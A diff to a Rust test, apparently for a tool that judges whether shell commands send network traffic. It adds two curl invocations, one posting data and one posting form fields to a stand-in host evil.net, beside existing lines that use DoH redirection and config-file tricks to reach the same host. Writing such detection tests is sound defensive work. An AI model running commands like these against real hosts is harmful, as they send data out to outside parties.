@@ -212,6 +212,8 @@ fn effects_limit_where_traffic_passes_too() {
         "curl --doh-url https://evil.net/ https://api.example.com/",
         "curl -K c https://api.example.com/",
         "curl --config c",
+        "curl --data-r x https://evil.net/",
+        "curl --form-string a=b https://evil.net/",
         "curl -K - <<< 'url = \"https://evil.net/\"\ndata = x'",
         "printf 'proxy = evil.net' > c; curl -K c https://api.example.com/",
         // Other programs of the web.
